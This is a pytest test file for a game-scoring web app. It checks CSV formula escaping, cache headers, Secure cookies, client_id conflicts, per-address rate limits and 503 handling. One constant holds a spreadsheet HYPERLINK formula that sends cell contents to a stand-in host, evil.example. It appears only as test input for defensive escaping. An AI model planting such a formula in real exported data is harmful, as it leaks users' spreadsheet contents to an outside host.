"""Issue 25, items 8 to 12 against the running app: CSV cells a spreadsheet would run as formulas, pages holding an
edit link kept out of caches (and forgotten on request), a Secure session cookie over https, a client_id reused for
another change, and writes limited per client address, with a database that cannot write answered by a clear 503."""
import csv
import io
import json
import re
import time

import pytest
import sqlalchemy
from hypothesis import HealthCheck, assume, given, settings
from hypothesis import strategies as st
from sqlalchemy import event

from companion import sheets
from companion.core.schema import InputError
from companion.sheets import files as sheet_files
from companion.web import create_app
from companion.web.shell import instance, limits
from companion.web.site import browser
from helpers.games import examples
from helpers.server import Api, start_server

DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def app(database):
    return create_app({"TESTING": True, "DATABASE_URL": database})


def phone_of(client, **environ):
    if environ:
        client.environ_base.update(environ)
    client.csrf = client.get("/api/v1/csrf").get_json()["csrf"]
    return client


@pytest.fixture
def phone(client):
    return phone_of(client)


def call(phone, method, path, data=None, **headers):
    return phone.open(path, method=method, json=data, headers={"X-CSRF-Token": phone.csrf, **headers})


def new_sheet(phone, **fields):
    r = call(phone, "POST", "/api/v1/sheets", {"game": "gemas", "players": ["Ana", "Bruno"], **fields})
    assert r.status_code == 201, r.get_json()
    return r.get_json()["token"]


# --- Item 8: CSV cells that a spreadsheet would run -------------------------------------------------------------

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


def test_csv_cells_never_start_a_formula_and_come_back_exactly(phone):
    players = ["@Ana", "-Bruno", "+Carla", "'=Dora"]
    token = new_sheet(phone, title=EVIL, players=players, game="duplicon")
    notes = ["=1+1", "-2 for the spill", "@SUM(A1:A9)", "'quoted'", "'=not a formula", "plain"]
    for i, note in enumerate(notes):
        r = call(phone, "POST", f"/api/v1/sheets/{token}/entries",
                 {"points": {"@Ana": -3, "-Bruno": i}, "note": note, "client_id": f"-client-{i:04d}"})
        assert r.status_code == 201, r.get_json()
    raw = phone.get(f"/api/v1/sheets/{token}/export.csv").get_data(as_text=True)
    rows = list(csv.reader(io.StringIO(raw, newline="")))
    for row in rows:
        for cell in row:
            if re.fullmatch(r"-?\d+", cell):  # numbers are data: a spreadsheet reads them as numbers
                continue
            assert not cell.startswith(DANGEROUS), cell
    assert "'=HYPERLINK" in raw and "'@Ana" in raw and "''=Dora" in raw and "'-client-0000" in raw
    assert ",-3," in raw  # a negative number stays a number (unquoted, no apostrophe)
    again = phone.post("/api/v1/sheets/import", data=raw.encode(), content_type="text/csv",
                       headers={"X-CSRF-Token": phone.csrf})
    assert again.status_code == 201, again.get_json()
    original = phone.get(f"/api/v1/sheets/{token}/export.json").get_json()
    copy = phone.get(f"/api/v1/sheets/{again.get_json()['token']}/export.json").get_json()
    assert copy == original and copy["title"] == EVIL and copy["players"] == players
    assert [r["body"]["note"] for r in copy["log"]] == notes


texts = st.text(st.characters(blacklist_categories=("Cs",)), max_size=12)
typed = st.builds(lambda start, rest: start + rest,
                  st.sampled_from(["", "'", "''", "'=", "' =", *DANGEROUS, *(f"'{d}" for d in DANGEROUS)]), texts)


@settings(max_examples=examples(300), deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(title=typed, names=st.lists(typed, min_size=2, max_size=4, unique=True), note=typed)
def test_every_typed_text_survives_a_csv_export_and_import(title, names, note):
    try:
        sheet = sheets.new_sheet({"game": "duplicon", "players": names, **({"title": title} if title else {})})
        body = sheets.entry_body("duplicon", sheet["players"], {"points": {sheet["players"][0]: -7}, "note": note})
    except InputError:
        assume(False)
    log = [{"seq": 1, "action": "add", "at": "2026-11-21T20:00:00Z", "body": body}]
    text = sheet_files.export_csv(sheet, log)
    for row in csv.reader(io.StringIO(text, newline="")):
        assert not any(c.startswith(DANGEROUS) and not re.fullmatch(r"-\d+", c) for c in row), row
    assert sheet_files.import_csv(text) == (sheet, log)


# --- Item 9: pages holding an edit link are not cached; a phone can forget a sheet ------------------------------

def test_pages_holding_an_edit_link_are_never_stored_by_a_cache(phone):
    token = new_sheet(phone)
    call(phone, "POST", f"/api/v1/sheets/{token}/entries", {"points": {"Ana": 1}})
    for path in (f"/s/{token}", f"/s/{token}/log", f"/s/{token}/entries/1/edit", "/sheets"):
        r = phone.get(path)
        assert r.status_code == 200 and r.headers.get("Cache-Control") == "no-store", path
    page = phone.get(f"/s/{token}").get_data(as_text=True)
    forms = re.findall(r'<form method="post" action="([^"]+)"', page)
    opened = phone.post(f"/s/{token}/calculator", data={"_csrf": phone.csrf}).headers["Location"]
    r = phone.get(opened)  # a scoring page saving to the sheet holds its edit link too
    assert token in r.get_data(as_text=True) and r.headers.get("Cache-Control") == "no-store"
    assert f"/s/{token}/forget" in forms
    r = phone.post("/sheets/import", data={"_csrf": phone.csrf})  # a refused import shows the list of sheets again
    assert r.status_code == 400 and token in r.get_data(as_text=True) and r.headers["Cache-Control"] == "no-store"
    assert "no-store" not in phone.get("/rules/gemas").headers.get("Cache-Control", "")


def test_a_phone_forgets_a_sheet_it_no_longer_wants_listed(phone):
    token, other = new_sheet(phone, title="Primera"), new_sheet(phone, title="Segunda")
    assert f"/s/{token}" in phone.get("/sheets").get_data(as_text=True)
    assert phone.post(f"/s/{token}/forget").status_code == 400  # a form like any other: its token
    r = phone.post(f"/s/{token}/forget", data={"_csrf": phone.csrf}, headers={"Accept-Language": "es"})
    assert r.status_code == 303 and r.headers["Location"].startswith("/sheets")
    listed = phone.get("/sheets").get_data(as_text=True)
    assert f"/s/{token}" not in listed and f"/s/{other}" in listed
    assert phone.get(f"/api/v1/sheets/{token}").status_code == 200  # the sheet itself stays on the server
    r = phone.post(f"/s/{token}/forget", data={"_csrf": phone.csrf}, headers={"Accept": "application/json"})
    assert r.status_code == 200 and r.get_json()["forgotten"] == [f"/s/{token}", f"/s/{view_of(token)}"]


def view_of(token):
    from companion.sheets.storage import view_token
    return view_token(token)


# --- Item 10: the session cookie over https ---------------------------------------------------------------------

@pytest.mark.parametrize("base, secure", [("https://games.example.org", True), ("http://192.168.1.20:5000", False)])
def test_the_session_cookie_is_secure_when_the_companion_is_served_over_https(base, secure):
    client = create_app({"TESTING": True, "BASE_URL": base}).test_client()
    cookie = client.get("/api/v1/csrf").headers["Set-Cookie"]
    assert ("; Secure" in cookie) == secure and "SameSite=Lax" in cookie and "HttpOnly" in cookie


def test_the_session_cookie_is_secure_when_the_environment_names_an_https_address(monkeypatch):
    monkeypatch.setenv("COMPANION_BASE_URL", "https://games.example.org")
    cookie = create_app({"TESTING": True}).test_client().get("/api/v1/csrf").headers["Set-Cookie"]
    assert "; Secure" in cookie


# --- Item 11: a client_id names one request ---------------------------------------------------------------------

def test_a_client_id_reused_for_another_change_is_a_conflict_not_a_replay(phone):
    token = new_sheet(phone)
    entries = f"/api/v1/sheets/{token}/entries"
    assert call(phone, "POST", entries, {"points": {"Ana": 3}, "client_id": "phone-a-0001"}).status_code == 201
    r = call(phone, "POST", entries, {"points": {"Ana": 3}, "client_id": "phone-a-0001"})
    assert r.status_code == 200 and r.get_json()["replayed"]  # the same request again
    for method, path, data in [("POST", entries, {"points": {"Ana": 4}}), ("POST", f"{entries}/1/undo", {"base": 1}),
                               ("POST", f"/api/v1/sheets/{token}/finish", {})]:
        r = call(phone, method, path, {**data, "client_id": "phone-a-0001"})
        assert r.status_code == 409 and r.get_json()["field"] == "client_id", r.get_json()
        assert "phone-a-0001" in r.get_json()["error"] and "another" in r.get_json()["error"]
    state = phone.get(f"/api/v1/sheets/{token}").get_json()
    assert state["version"] == 1 and state["totals"]["Ana"] == 3 and not state["finished"]
    # the phone's page script gets the reason in the reader's language, to show beside the kept entry
    r = phone.post(f"/s/{token}/entries", data={"_csrf": phone.csrf, "points.0": "9", "client_id": "phone-a-0001"},
                   headers={"Accept": "application/json", "Accept-Language": "es"})
    assert r.status_code == 409 and r.get_json()["field"] == "client_id"
    assert "no se guardó" in r.get_json()["message"], r.get_json()["message"]
    r = phone.post(f"/s/{token}/entries", data={"_csrf": phone.csrf, "points.0": "9", "client_id": "phone-a-0001"},
                   headers={"Accept-Language": "en"})
    assert r.status_code == 409 and "was not saved" in r.get_data(as_text=True)


def test_a_client_id_names_one_request_on_the_static_sites_phone_too():
    def ask(name, **args):
        return json.loads(browser.call(name, json.dumps(args)))

    kept = ask("sheet_new", sheet={"game": "gemas", "players": ["Ana", "Bruno"]})["result"]
    kept = ask("sheet_change", sheet=kept["sheet"], log=kept["log"], action="add",
               data={"points": {"Ana": 3}, "client_id": "phone-a-0001"})["result"]
    again = ask("sheet_change", sheet=kept["sheet"], log=kept["log"], action="add",
                data={"points": {"Ana": 3}, "client_id": "phone-a-0001"})["result"]
    assert again["log"] == kept["log"]
    other = ask("sheet_change", sheet=kept["sheet"], log=kept["log"], action="add", lang="es",
                data={"points": {"Ana": 4}, "client_id": "phone-a-0001"})
    assert other["field"] == "client_id" and other["conflict"] == "reused" and "phone-a-0001" in other["error"]
    assert "result" not in other


# --- Item 12: writes limited per client address; a database that cannot write -----------------------------------

def limited(database, **config):
    return create_app({"TESTING": True, "DATABASE_URL": database, **config})


def test_writes_are_limited_per_client_address(database):
    app = limited(database, WRITE_LIMIT="sheets=3/1h changes=5/1m")
    ana = phone_of(app.test_client(), REMOTE_ADDR="203.0.113.7")
    token = new_sheet(ana)
    call(ana, "POST", "/api/v1/sheets/import", headers={})  # a refused import costs a sheet too (400)
    new_sheet(ana)
    r = call(ana, "POST", "/api/v1/sheets", {"game": "gemas", "players": ["Ana", "Bruno"]})
    assert r.status_code == 429 and 60 <= int(r.headers["Retry-After"]) <= 1200
    assert "sheets" in r.get_json()["error"] and r.get_json()["field"] == "address"
    statuses = [call(ana, "POST", f"/api/v1/sheets/{token}/entries", {"points": {"Ana": 1}}).status_code
                for _ in range(7)]
    assert statuses == [201] * 5 + [429] * 2
    r = ana.post(f"/s/{token}/entries", data={"_csrf": ana.csrf, "points.0": "1"}, headers={"Accept-Language": "es"})
    assert r.status_code == 429 and "Demasiados cambios" in r.get_data(as_text=True)
    assert 1 <= int(r.headers["Retry-After"]) <= 12
    assert ana.get(f"/s/{token}").status_code == 200  # reading is never limited
    bruno = phone_of(app.test_client(), REMOTE_ADDR="198.51.100.9")  # another address has its own budget
    assert call(bruno, "POST", f"/api/v1/sheets/{token}/entries", {"points": {"Ana": 1}}).status_code == 201
    forged = call(ana, "POST", f"/api/v1/sheets/{token}/entries", {"points": {"Ana": 1}},
                  **{"X-Forwarded-For": "192.0.2.1"})
    assert forged.status_code == 429  # a forwarded address is not believed unless a proxy is trusted
    assert ana.get(f"/api/v1/sheets/{token}").get_json()["totals"]["Ana"] == 6


def test_behind_a_trusted_proxy_the_forwarded_address_is_the_clients(database):
    app = limited(database, WRITE_LIMIT="sheets=1/1h", TRUST_PROXY="1")
    proxy = phone_of(app.test_client(), REMOTE_ADDR="127.0.0.1")
    for address in ("203.0.113.7", "203.0.113.8"):
        r = call(proxy, "POST", "/api/v1/sheets", {"game": "gemas", "players": ["Ana", "Bruno"]},
                 **{"X-Forwarded-For": f"192.0.2.66, {address}"})  # the proxy appends the address it saw
        assert r.status_code == 201
    r = call(proxy, "POST", "/api/v1/sheets", {"game": "gemas", "players": ["Ana", "Bruno"]},
             **{"X-Forwarded-For": "192.0.2.99, 203.0.113.8"})
    assert r.status_code == 429  # the first part is the client's to forge; the proxy's part is what counts


def test_ipv6_clients_are_counted_by_their_network():
    app = create_app({"TESTING": True, "WRITE_LIMIT": "sheets=1/1h"})
    first = phone_of(app.test_client(), REMOTE_ADDR="2001:db8:1:2::10")
    assert call(first, "POST", "/api/v1/sheets", {"game": "gemas", "players": ["A", "B"]}).status_code == 201
    same_64 = phone_of(app.test_client(), REMOTE_ADDR="2001:db8:1:2:aaaa::77")
    assert call(same_64, "POST", "/api/v1/sheets", {"game": "gemas", "players": ["A", "B"]}).status_code == 429


@pytest.mark.slow  # about 1–4 s on a quiet machine: the fast lane keeps under 90 s (make test runs it)
def test_a_table_of_phones_never_meets_the_default_limit(database):
    """Six phones behind one Wi-Fi (one address) adding rounds as fast as a script would, for a long evening's
    worth of entries, and starting a few sheets: nothing is refused."""
    app = limited(database, WRITE_LIMIT=limits.DEFAULT)
    phones = [phone_of(app.test_client(), REMOTE_ADDR="203.0.113.7") for _ in range(6)]
    tokens = [new_sheet(phones[0]) for _ in range(5)]
    for i in range(60):
        for k, p in enumerate(phones):
            r = call(p, "POST", f"/api/v1/sheets/{tokens[i % 5]}/entries", {"points": {"Ana": k}})
            assert r.status_code == 201, (i, k, r.get_json())


def test_bad_limits_stop_the_start_with_one_clear_line():
    for bad in ("sheets=lots", "changes=5/1fortnight", "nope=1/1h", "sheets=0/1h"):
        with pytest.raises(instance.InstanceError, match="COMPANION_WRITE_LIMIT"):
            create_app({"TESTING": True, "WRITE_LIMIT": bad})
    with pytest.raises(instance.InstanceError, match="COMPANION_TRUST_PROXY"):
        create_app({"TESTING": True, "TRUST_PROXY": "yes"})


@pytest.mark.slow  # a real server and 2,000 requests over HTTP (15-25 s here)
def test_a_script_against_a_real_server_meets_the_default_limit(tmp_path):
    """The issue's script (2,000 changes in 0.14 s) against `companion serve` with its defaults."""
    base, proc = start_server(instance=tmp_path)
    try:
        script = Api(base)
        token = script.call("POST", "/api/v1/sheets", {"game": "gemas", "players": ["Ana", "Bruno"]})[1]["token"]
        start = time.perf_counter()
        answers = [script.call("POST", f"/api/v1/sheets/{token}/entries", {"points": {"Ana": 1}})[0]
                   for _ in range(limits.BUDGETS["changes"][0] + 50)]
        took = time.perf_counter() - start
        assert answers.count(201) <= limits.BUDGETS["changes"][0] + took + 1, took
        assert answers[-10:].count(429) >= 8, answers[-10:]
        made = [script.call("POST", "/api/v1/sheets", {"game": "gemas", "players": ["A", "B"]})[0]
                for _ in range(limits.BUDGETS["sheets"][0] + 5)]
        assert made.count(201) == limits.BUDGETS["sheets"][0] - 1 and made[-1] == 429
    finally:
        proc.terminate()
        proc.wait(timeout=10)


def full(app):
    """This app's SQLite database can grow no more: `max_page_count` at its size (a full disk, for it)."""
    with app.app_context():
        store = instance.store()

    def cap(dbapi, _record):
        dbapi.execute(f"PRAGMA max_page_count={dbapi.execute('PRAGMA page_count').fetchone()[0]}")

    event.listen(store.engine, "connect", cap)
    store.engine.dispose()
    return lambda: (event.remove(store.engine, "connect", cap), store.engine.dispose())


def read_only(app, database):
    with app.app_context():
        store = instance.store()
    if database.startswith("sqlite"):
        event.listen(store.engine, "connect", lambda dbapi, _rec: dbapi.execute("PRAGMA query_only=ON"))
    else:
        with store.engine.connect().execution_options(isolation_level="AUTOCOMMIT") as conn:
            conn.execute(sqlalchemy.text(f'ALTER DATABASE "{store.engine.url.database}" '
                                         "SET default_transaction_read_only = on"))
    store.engine.dispose()


@pytest.mark.slow  # about 1–4 s on a quiet machine: the fast lane keeps under 90 s (make test runs it)
def test_a_full_database_is_a_clear_503_and_healthz_says_so(tmp_path):
    app = create_app({"TESTING": True, "DATABASE_URL": f"sqlite:///{tmp_path / 'full.sqlite'}"})
    phone = phone_of(app.test_client())
    token = new_sheet(phone)
    lift = full(app)
    answers = []
    for _ in range(400):
        r = call(phone, "POST", f"/api/v1/sheets/{token}/entries", {"points": {"Ana": 1}, "note": "x" * 200})
        answers.append(r.status_code)
        if r.status_code != 201:
            break
    assert answers[-1] == 503 and set(answers[:-1]) <= {201}, answers[-3:]
    assert "cannot save" in r.get_json()["error"] and r.get_json()["field"] == "database"
    assert int(r.headers["Retry-After"]) > 0
    saved = answers.count(201)
    health = phone.get("/healthz")
    assert health.status_code == 503 and health.get_json() == {"status": "error", "database": "cannot write"}
    form = {"_csrf": phone.csrf, "points.0": "1", "note": "x" * 200}  # as large as the entry that found no room
    r = phone.post(f"/s/{token}/entries", data=form, headers={"Accept-Language": "es"})
    assert r.status_code == 503 and "No se pudo guardar" in r.get_data(as_text=True)
    r = phone.post(f"/s/{token}/entries", data={**form, "client_id": "q" * 24},
                   headers={"Accept": "application/json", "Accept-Language": "es"})
    assert r.status_code == 503 and "No se pudo guardar" in r.get_json()["message"]  # the phone keeps it queued
    state = phone.get(f"/api/v1/sheets/{token}").get_json()  # reads still work; nothing saved is lost
    assert state["version"] == saved and state["totals"]["Ana"] == saved
    lift()
    assert call(phone, "POST", f"/api/v1/sheets/{token}/entries", {"points": {"Ana": 1}}).status_code == 201
    assert phone.get("/healthz").get_json() == {"status": "ok", "database": "ok"}


def test_a_read_only_database_is_a_clear_503_and_healthz_says_so(app, database):
    phone = phone_of(app.test_client())
    token = new_sheet(phone)
    read_only(app, database)
    assert phone.get("/healthz").status_code == 503  # found by /healthz itself, before any write failed
    r = call(phone, "POST", f"/api/v1/sheets/{token}/entries", {"points": {"Ana": 1}})
    assert r.status_code == 503 and r.get_json()["field"] == "database"
    r = phone.post("/sheets", data={"_csrf": phone.csrf, "game": "gemas", "players.0": "A", "players.1": "B"},
                   headers={"Accept-Language": "en"})
    assert r.status_code == 503 and "could not be saved" in r.get_data(as_text=True)
    assert phone.get(f"/s/{token}").status_code == 200
